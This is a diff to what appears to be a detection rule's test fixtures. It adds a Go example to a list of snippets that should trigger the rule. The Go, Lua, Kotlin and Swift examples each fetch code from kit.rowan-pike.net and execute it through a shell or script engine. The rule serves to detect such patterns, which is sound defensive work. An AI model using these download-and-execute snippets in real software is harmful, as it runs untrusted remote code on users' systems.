@@ -36,6 +36,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```go\nr, err := http.Get("https://kit.rowan-pike.net/lint")\nc := exec.Command(os.Getenv("SHELL"))\nc.Stdin = r.Body\nc.Run()\n```\n',
       '```lua\nhttp.fetch({url = "http://kit.rowan-pike.net/t"}, function(r)\n  local f = loadstring(r.data)\n  if f then f() end\nend)\n```\n',
       '```kotlin\nval code = URL("https://kit.rowan-pike.net/p.kts").readText()\nScriptEngineManager().getEngineByExtension("kts").eval(code)\n```\n',
       '```swift\nlet c = try String(contentsOf: URL(string: "https://kit.rowan-pike.net/p")!)\nlet p = Process(); p.executableURL = URL(fileURLWithPath: "/bin/sh"); p.arguments = ["-c", c]; try p.run()\n```\n',
